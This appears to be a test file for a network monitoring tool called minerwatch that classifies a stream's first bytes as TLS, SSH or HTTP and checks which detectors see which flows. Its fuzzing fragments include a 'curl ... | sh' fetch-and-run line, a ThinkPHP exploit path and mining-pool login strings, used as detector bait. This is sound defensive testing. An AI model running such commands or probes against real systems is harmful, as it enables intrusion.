"""The first-payload dispatch: what a stream opens with, and the promise every shipped factory makes by
declaring the openings it takes (it returns None for all others, so skipping it loses nothing)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from minerwatch.decode import Flow
from minerwatch.decode._httpgate import starts_with_request_line
from minerwatch.flows.info import FlowInfo
from minerwatch.flows.opening import KINDS, Opening, opening
from minerwatch.pipeline import Analysis, AnalysisOptions


@pytest.mark.parametrize(
    ("first", "kind"),
    [
        (b"\x16\x03\x01\x02\x00\x01", Opening.TLS),
        (b"\x17\x03\x03\x00\x20", Opening.TLS),  # picked up mid-connection
        (b"\x14\x03", Opening.TLS),
        (b"\x16\x02\x01", Opening.OTHER),  # SSL 2 style bytes are not a TLS record header
        (b"\x16", Opening.OTHER),
        (b"SSH-2.0-OpenSSH_9.6\r\n", Opening.SSH),
        (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", Opening.HTTP),
        (b"\r\n\r\nPOST /x?a=1 HTTP/1.0\n", Opening.HTTP),  # CRLFs before a request are tolerated
        (b"m-search * HTTP/1.1\r\n", Opening.HTTP),  # any token is a method
        (b"HTTP/1.1 200 OK\r\n", Opening.HTTP),
        (b"GET /a-request-cut-short-in-its-first-seg", Opening.OTHER),  # the HTTP sniff takes it
        (b"GET / HTTP/1.1", Opening.OTHER),  # no line end yet: not certain
        (b"GET /a\x01b HTTP/1.1\r\n", Opening.OTHER),
        (b'{"id":1,"method":"login"}\n', Opening.OTHER),
        (b"", Opening.OTHER),
    ],
)
def test_opening(first: bytes, kind: Opening) -> None:
    assert opening(first) is kind


def test_the_inspector_asks_only_the_factories_that_take_the_opening(write_capture, analyse) -> None:
    """A TLS flow is never shown to the JSON-lines factory, even when its bytes contain a JSON line."""
    from minerwatch.capture.writer import TcpConversation

    c = TcpConversation("10.0.0.1", 40000, "10.0.0.2", 3333).open()
    c.send(True, b"\x17\x03\x03\x00\x40" + b'\n{"id":1,"method":"login","params":{"login":"x"}}\n')
    c.send(False, b'{"id":1,"jsonrpc":"2.0","result":{"id":"1","job":{"blob":"00","job_id":"1"}}}\n')
    events = analyse(write_capture(c.close().packets), detectors=("pool_protocols",))
    stats = events[-1]["stats"]
    assert stats["inspection"]["flows_bypassed"] == 1
    assert not [e for e in events if e["event_type"] == "mining"]


# Fragments that the factories' own tests look for, so that a payload of one opening carries the bytes
# another protocol's sniffing would accept.
FRAGMENTS = [
    b"SSH-2.0-OpenSSH_9.6\r\n",
    b'\n{"id":1,"method":"login","params":{"login":"4Abc","pass":"x"}}\n',
    b"stratum+tcp://pool.example:3333 -u 4Abc --donate-level 1\n",
    b"220 mail.example ESMTP smtp ready\r\n",
    b"220 FTP server ready\r\n",
    b"USER anonymous\r\n",
    b"EHLO client\r\n",
    b"AUTH hunter2\r\n",
    b"*2\r\n$4\r\nAUTH\r\n",
    b"curl http://x/a.sh | sh\n",
    b"eyJpZCI6MSwibWV0aG9kIjoibG9naW4ifQ==\n",
    b"\x00\x00\x00\x08\x04\xd2\x16\x2f",
    b"\x0a\x35\x2e\x37\x00",
    b"\r\n",
    b"\x00",
]
TAIL = st.lists(st.sampled_from(FRAGMENTS) | st.binary(max_size=24), max_size=6).map(b"".join)
METHODS = st.sampled_from([b"GET", b"POST", b"HEAD", b"PUT", b"get", b"CONNECT", b"PROPFIND", b"X"])
TARGETS = st.sampled_from([b"/", b"/index.php?s=/index/think/app/invokefunction", b"*", b"/%7B%22a%22"])
STATUS = st.sampled_from([b"HTTP/1.1 200 OK", b"HTTP/1.0 404", b"HTTP/1.1 101 Switching Protocols"])

OPENINGS = {
    Opening.TLS: st.builds(lambda ct, rest: bytes([ct, 0x03]) + rest, st.integers(0x14, 0x17), TAIL),
    Opening.SSH: st.builds(lambda rest: b"SSH-" + rest, TAIL),
    Opening.HTTP: st.one_of(
        st.builds(
            lambda crlf, method, target, eol, rest: (
                b"\r\n" * crlf + method + b" " + target + b" HTTP/1.1" + eol + rest
            ),
            st.integers(0, 2),
            METHODS,
            TARGETS,
            st.sampled_from([b"\r\n", b"\n"]),
            TAIL,
        ),
        st.builds(lambda status, rest: status + rest, STATUS, TAIL),
    ),
}
# Ports the factories choose by (SSH, FTP, SMTP, DNS, MySQL, Redis, PostgreSQL, MSSQL, RDP, Telnet...).
PORTS = st.sampled_from([21, 22, 23, 25, 53, 80, 443, 587, 1433, 3306, 3333, 3389, 5432, 6379, 8080])


@pytest.fixture(scope="module")
def factories(tmp_path_factory: pytest.TempPathFactory) -> list:
    """Every stream factory the default analysis registers, with a declaration narrower than ANY."""
    events: list[dict] = []
    db = str(tmp_path_factory.mktemp("intel") / "intel.sqlite")
    analysis = Analysis([events.append], AnalysisOptions(intel_db=db, record_discovered=False))
    declared = [f for f in analysis.inspector.stream_factories if f.openings is not Opening.ANY]
    assert len(declared) >= 7  # pool, HTTP, obfuscated, pool URLs, exploits, SMTP, FTP, brute force
    return [(factory, events) for factory in declared]


def flow_info(server_port: int) -> FlowInfo:
    flow = Flow()
    flow.flow_id, flow.proto, flow.ip_version = 1, 6, 4
    flow.client_addr, flow.server_addr = bytes([10, 0, 0, 1]), bytes([10, 0, 0, 2])
    flow.client_port, flow.server_port = 40000, server_port
    return FlowInfo(flow)


@settings(max_examples=300, deadline=None)
@given(data=st.data(), port=PORTS, to_server=st.booleans())
def test_every_factory_refuses_the_openings_it_did_not_declare(factories, data, port, to_server) -> None:
    for factory, events in factories:
        refused = [kind for kind in KINDS if kind in OPENINGS and not kind & factory.openings]
        for kind in refused:
            first = data.draw(OPENINGS[kind])
            assert opening(first) is kind
            seen = len(events)
            assert factory.make(flow_info(port), first, to_server) is None, (factory, first)
            assert len(events) == seen, (factory, first)  # nor does it report anything from them


@settings(max_examples=200, deadline=None)
@given(data=st.data(), port=PORTS, to_server=st.booleans())
def test_every_factory_refuses_the_ports_it_did_not_declare(factories, data, port, to_server) -> None:
    """A factory that names its server ports is never asked about others: it must refuse them all."""
    ported = [(f, events) for f, events in factories if f.ports is not None and port not in f.ports]
    for factory, events in ported:
        kind = data.draw(st.sampled_from([k for k in KINDS if k in OPENINGS and k & factory.openings]))
        first = data.draw(OPENINGS[kind])
        seen = len(events)
        assert factory.make(flow_info(port), first, to_server) is None, (factory, first)
        assert len(events) == seen


def test_the_declared_ports_are_those_of_the_login_protocols(factories) -> None:
    """The brute-force session factory declares its watched ports (so the ports test above covers it)."""
    from minerwatch.detectors.bruteforce import DEFAULT_PORTS

    assert frozenset(DEFAULT_PORTS) in [f.ports for f, _ in factories]


@settings(max_examples=500, deadline=None)
@given(
    first=st.one_of(
        OPENINGS[Opening.HTTP],
        st.builds(
            lambda head, rest: head + rest, st.sampled_from([*FRAGMENTS, b"GET ", b"SSH-2.0 / "]), TAIL
        ),
        st.binary(max_size=64),
    )
)
def test_the_engine_recognises_exactly_the_request_lines_opening_reads(first: bytes) -> None:
    """The engine gates a first payload itself only when it is a whole request line by HTTP_START's
    reading: the HTTP opening, not a status line, and no CRLF before it (the Python path takes those)."""
    expected = opening(first) is Opening.HTTP and not first.startswith((b"\r", b"\n", b"HTTP/"))
    assert starts_with_request_line(first) == expected
